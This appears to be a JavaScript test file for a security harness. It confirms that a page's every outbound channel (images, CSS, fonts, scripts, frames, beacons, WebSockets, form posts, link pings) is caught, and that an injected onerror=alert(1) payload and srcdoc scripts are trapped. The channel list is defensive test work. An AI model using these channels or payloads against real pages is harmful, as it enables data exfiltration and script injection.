// The harness of the other attack tests detects every way out of a page.
import assert from "node:assert/strict";
import { test } from "node:test";
import { openEditor } from "./attacked.mjs";

const add = (html) => `document.body.append(document.createRange().createContextualFragment(${JSON.stringify(html)}))`;

const WAYS = {
  picture: `new Image().src = "http://a.example/1"`,
  "picture by TLS": `new Image().src = "https://a.example/1"`,
  "picture at an IP address": `new Image().src = "http://203.0.113.7/1"`,
  "set of pictures": add('<img srcset="//b.example/2 1x">'),
  style: add('<p style="background: url(http://c.example/3)">x</p>'),
  stylesheet: add('<link rel="stylesheet" href="http://d.example/4">'),
  font: add('<style>@font-face { font-family: f; src: url(http://e.example/5) }</style><p style="font-family: f">x</p>'),
  script: add('<script src="http://f.example/6"></scr' + 'ipt>'),
  prefetch: add('<link rel="prefetch" href="http://g.example/7">'),
  frame: add('<iframe src="http://i.example/8"></iframe>'),
  video: add('<video src="http://j.example/9" poster="http://j.example/10"></video>'),
  beacon: `navigator.sendBeacon("http://k.example/11", "x")`,
  socket: `new WebSocket("ws://l.example/12")`,
  events: `new EventSource("http://m.example/13")`,
  form: add('<iframe name="f"></iframe><form target="f" action="http://n.example/14" method="post"></form>') + `; document.forms[0].submit()`,
  ping: add('<a href="#x" ping="http://o.example/15">x</a>') + `; document.querySelector("a[ping]").click()`,
};

test("the server of all foreign origins receives every request of a page", async (t) => {
  const page = await openEditor(t, { loud: true, expected: [/./] });
  for (const [name, code] of Object.entries(WAYS)) {
    page.asked.length = 0;
    await page.evaluate(code);
    for (let waited = 0; !page.asked.length && waited < 3000; waited += 20) await page.waitForTimeout(20);
    assert.notEqual(page.asked.length, 0, name);
  }
});

test("code that runs, windows that open and requests to the page's own server are recorded", async (t) => {
  const page = await openEditor(t, { loud: true, expected: [/./] });
  const tries = {
    requested: `new Image().src = "/own"`,
    trapped: add("<img src=x onerror=alert(1)>"),
    problems: `setTimeout(() => { throw new Error("uncaught") })`,
  };
  for (const [list, code] of Object.entries(tries)) {
    page[list].length = 0;
    await page.evaluate(code);
    for (let waited = 0; !page[list].length && waited < 3000; waited += 20) await page.waitForTimeout(20);
    assert.notEqual(page[list].length, 0, list);
  }
  const frame = `const frame = document.createElement("iframe"); frame.srcdoc = "<script>alert(2)</scr" + "ipt>"; document.body.append(frame)`;
  page.trapped.length = 0;
  await page.evaluate(frame);
  const isTrapped = () => page.trapped.some((what) => what.includes("alert(2)"));
  for (let waited = 0; !isTrapped() && waited < 3000; waited += 20) await page.waitForTimeout(20);
  assert.ok(isTrapped(), String(page.trapped));
});
